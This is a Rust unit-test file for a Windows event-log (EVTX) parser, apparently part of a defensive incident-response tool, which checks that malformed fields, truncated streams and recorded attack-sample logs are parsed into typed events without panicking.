            ("ProcessId", "0xZZZZ"),
            ("ParentProcessId", "99999999999999999999999"),
            ("TerminalSessionId", "-1"),
            ("UtcTime", "not a time"),
            ("Hashes", "=,,==,SHA1,md5=abc,MD5=dup, =x,sha256= "),
            ("CommandLine", &big),
            ("Image", "   "),
            ("IntegrityLevel", "Weird"),
        ],
    );
    let Some(ExecEvent::SysmonProcessCreate(p)) = exec_event_from_raw(&ev) else {
        panic!()
    };
    assert_eq!(p.process_id, None);
    assert_eq!(p.parent_process_id, None);
    assert_eq!(p.terminal_session_id, None);
    assert_eq!(p.utc_time, None);
    assert_eq!(p.image, None, "blank is absent");
    assert_eq!(p.hashes.len(), 1);
    assert_eq!(p.hashes.get("md5").map(String::as_str), Some("abc"));
    assert_eq!(
        p.integrity_level,
        Some(IntegrityLevel::Other("Weird".into()))
    );
    assert_eq!(p.command_line.as_ref().map(String::len), Some(1 << 20));

    let ev = raw(
        SECURITY_PROVIDER,
        SECURITY_CHANNEL,
        4688,
        &[
            ("NewProcessId", "0x1a2c"),
            ("ProcessId", "0x1ffffffff"),
            ("CommandLine", ""),
            ("TokenElevationType", "TokenElevationTypeLimited (3)"),
            ("MandatoryLabel", "S-1-16-4096"),
        ],
    );
    let Some(ExecEvent::SecurityProcessCreate(p)) = exec_event_from_raw(&ev) else {
        panic!()
    };
    assert_eq!(p.new_process_id, Some(0x1a2c));
    assert_eq!(p.creator_process_id, None, "does not fit u32");
    assert_eq!(p.creator_process_id_raw.as_deref(), Some("0x1ffffffff"));
    assert_eq!(p.command_line, None);
    assert_eq!(p.token_elevation_type, Some(TokenElevationType::Limited));
    assert_eq!(p.integrity_level, Some(IntegrityLevel::Low));

    // Sysmon 3 with junk ports / booleans; no EventData at all for a task event.
    let ev = raw(
        SYSMON_PROVIDER,
        SYSMON_CHANNEL,
        3,
        &[("DestinationPort", "70000"), ("Initiated", "maybe")],
    );
    let Some(ExecEvent::SysmonNetworkConnect(c)) = exec_event_from_raw(&ev) else {
        panic!()
    };
    assert_eq!((c.destination_port, c.initiated), (None, None));
    let Some(ExecEvent::SecurityTask(t)) = exec_event_from_raw(&raw(
        SECURITY_PROVIDER,
        SECURITY_CHANNEL,
        4702,
        &[("TaskContentNew", "<Task/>")],
    )) else {
        panic!()
    };
    assert_eq!(t.action, TaskAuditAction::Updated);
    assert_eq!(t.task_content.as_deref(), Some("<Task/>"));
    let Some(ExecEvent::TaskSchedulerOp(t)) = exec_event_from_raw(&raw(
        TASK_SCHEDULER_PROVIDER,
        TASK_SCHEDULER_CHANNEL,
        201,
        &[("ResultCode", "-2147024894")],
    )) else {
        panic!()
    };
    assert_eq!(t.result_code, Some(0x8007_0002));
}

#[test]
fn parse_helpers() {
    assert_eq!(parse_uint("0x15b4"), Some(0x15b4));
    assert_eq!(parse_uint("0X15B4"), Some(0x15b4));
    assert_eq!(parse_uint(" 42 "), Some(42));
    assert_eq!(parse_uint("0x"), None);
    assert_eq!(parse_uint(""), None);
    assert_eq!(parse_uint("-5"), None);
    assert!(parse_hashes("").is_empty());
    assert_eq!(
        parse_hashes("SHA256=AB").get("sha256").map(String::as_str),
        Some("ab")
    );
    assert_eq!(
        IntegrityLevel::parse("S-1-16-16384"),
        IntegrityLevel::System
    );
    assert_eq!(
        TokenElevationType::parse("%%1936"),
        TokenElevationType::Default
    );
    assert_eq!(TokenElevationType::parse("x").as_str(), "x");
}

#[test]
fn garbage_and_truncated_streams_do_not_panic() {
    let inputs: Vec<Vec<u8>> = vec![Vec::new(), b"ElfFile\0".to_vec(), vec![0xff; 70_000], {
        let mut v = b"ElfFile\0".to_vec();
        v.resize(4096 + 65536, 0x41);
        v
    }];
    for bytes in inputs {
        let mut seen = 0usize;
        let _ = read_exec_events(Cursor::new(bytes), |_| {
            seen += 1;
            ControlFlow::Continue(())
        });
        assert_eq!(seen, 0);
    }
    // A real log cut mid-chunk: whatever comes out must still be well-formed.
    let full = std::fs::read(path(SYSMON_MUSEUM)).unwrap();
    for cut in [4096 + 30_000, 4096 + 65_536 + 12_345] {
        let mut n = 0;
        let _ = read_exec_events(Cursor::new(full[..cut].to_vec()), |ev| {
            assert_eq!(ev.header().provider, SYSMON_PROVIDER);
            n += 1;
            ControlFlow::Continue(())
        });
        assert!(n < 681);
    }
    // Callback can stop early.
    let mut n = 0;
    let _ = read_exec_events(Cursor::new(full), |_| {
        n += 1;
        ControlFlow::Break(())
    });
    assert_eq!(n, 1);
}

/// Every context event of the corpus samples: typed by provider + channel + id, survives a
/// JSON round trip, and answers each of its logged EventData/UserData names through
/// `sigma_field` (so Sigma rules on raw names see what the record holds).
#[test]
fn context_events_round_trip_and_answer_their_logged_names() {
    let corpus = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus/evtx/");
    let files = [
        "EVTX-ATTACK-SAMPLES/Execution/windows_bits_4_59_60_lolbas desktopimgdownldr.evtx",
        "EVTX-ATTACK-SAMPLES/Execution/rogue_msi_url_1040_1042.evtx",
        "EVTX-ATTACK-SAMPLES/Privilege Escalation/System_7045_namedpipe_privesc.evtx",
        "EVTX-ATTACK-SAMPLES/Execution/Sysmon_meterpreter_ReflectivePEInjection_to_notepad_.evtx",
        "EVTX-to-MITRE-Attack/TA0002-Execution/T1569.002-Service execution/ID5145-remote service creation over SMB.evtx",
        "EVTX-to-MITRE-Attack/TA0002-Execution/T1047-Windows Management Instrumentation/ID3-7-10-Suspicious DLL loaded (CME+Mimikatz).evtx",
    ];
    let mut kinds = BTreeSet::new();
    for rel in files {
        let f = File::open(format!("{corpus}{rel}")).unwrap_or_else(|e| panic!("{rel}: {e}"));
        crate::parsers::evtx_read::read_events(f, |raw| {
            let Some(ev) = exec_event_from_raw(&raw) else {
                return ControlFlow::Continue(());
            };
            let v = serde_json::to_value(&ev).unwrap();
            kinds.insert(v["kind"].as_str().unwrap().to_string());
            assert_eq!(serde_json::from_value::<ExecEvent>(v).unwrap(), ev, "{rel}");
            if ev.context_facts().is_some() && !matches!(ev, ExecEvent::Application(_)) {
                for (name, value) in raw.data.named.iter().chain(&raw.data.user_fields) {
                    if value.trim().is_empty() || name == "UtcTime" || name == "CreationUtcTime" {
                        continue;
                    }
                    let known = ev.sigma_field(name);
                    // Fields irsnap does not type (e.g. BITS `fileTime`) answer None; a typed
                    // one must answer with the logged text (numbers may drop leading zeros).
                    if let Some(got) = known {
                        let same = got == value.as_str()
                            || parse_uint(&got).is_some() && parse_uint(&got) == parse_uint(value)
                            || got.eq_ignore_ascii_case(value);
                        assert!(same, "{rel}: {name} = {value:?} answered {got:?}");
                    }
                }
            }
            ControlFlow::Continue(())
        })
        .unwrap_or_else(|e| panic!("{rel}: {e}"));
    }
    for k in [
        "bits",
        "application",
        "system_service_install",
        "sysmon_remote_thread",
        "sysmon_process_access",
        "sysmon_image_load",
        "security_share_access",
    ] {
        assert!(kinds.contains(k), "no {k} in {kinds:?}");
    }
}

#[test]
fn context_events_with_empty_or_hostile_data_type_without_panicking() {
    use crate::parsers::evtx_read::RawEvent;
    let channels = [
        (SYSMON_PROVIDER, SYSMON_CHANNEL, SYSMON_CONTEXT_IDS),
        (SECURITY_PROVIDER, SECURITY_CHANNEL, &[5140, 5145][..]),
        (SCM_PROVIDER, SYSTEM_CHANNEL, SYSTEM_IDS),
        (BITS_PROVIDER, BITS_CHANNEL, BITS_IDS),
        (WINRM_PROVIDER, WINRM_CHANNEL, WINRM_IDS),
        (WMI_PROVIDER, WMI_CHANNEL, WMI_IDS),
        (DEFENDER_PROVIDER, DEFENDER_CHANNEL, DEFENDER_IDS),
        ("MSSQL$X", APPLICATION_CHANNEL, SQL_SERVER_IDS),
        (MSI_PROVIDER, APPLICATION_CHANNEL, MSI_IDS),
    ];
    let long = "é".repeat(100_000);
    for (provider, channel, ids) in channels {
        for &id in ids {
            for data in [
                EventData::default(),
                EventData {
                    named: vec![
                        ("ProcessId".into(), "0xZZ".into()),
                        ("UtcTime".into(), "not a time".into()),
                        ("Signed".into(), "maybe".into()),
                        ("IpPort".into(), "99999".into()),
                        ("url".into(), long.clone()),
                    ],
                    unnamed: vec![long.clone(), String::new()],
                    ..EventData::default()
                },
            ] {
                let raw = RawEvent {
                    event_id: id,
                    provider: provider.into(),
                    channel: channel.into(),
                    data,
                    ..RawEvent::default()
                };
                let ev = exec_event_from_raw(&raw)
                    .unwrap_or_else(|| panic!("{provider} {id} not typed"));
                let facts = ev.context_facts().expect("context facts");
                assert!(!facts.kind.is_empty() && !facts.message.is_empty());
                if let ExecEvent::Application(a) = &ev {
                    assert!(a.data.iter().all(|d| d.len() <= 64 * 1024));
                }
            }
        }
    }
    let mut union: Vec<u32> = SQL_SERVER_IDS.iter().chain(MSI_IDS).copied().collect();
    union.sort_unstable();
    assert_eq!(union, APPLICATION_IDS);
    // The same ids from another provider are not ours.
    let raw = RawEvent {
        event_id: 7045,
        provider: "Not-SCM".into(),
        channel: SYSTEM_CHANNEL.into(),
        ..RawEvent::default()
    };
    assert!(exec_event_from_raw(&raw).is_none());
}
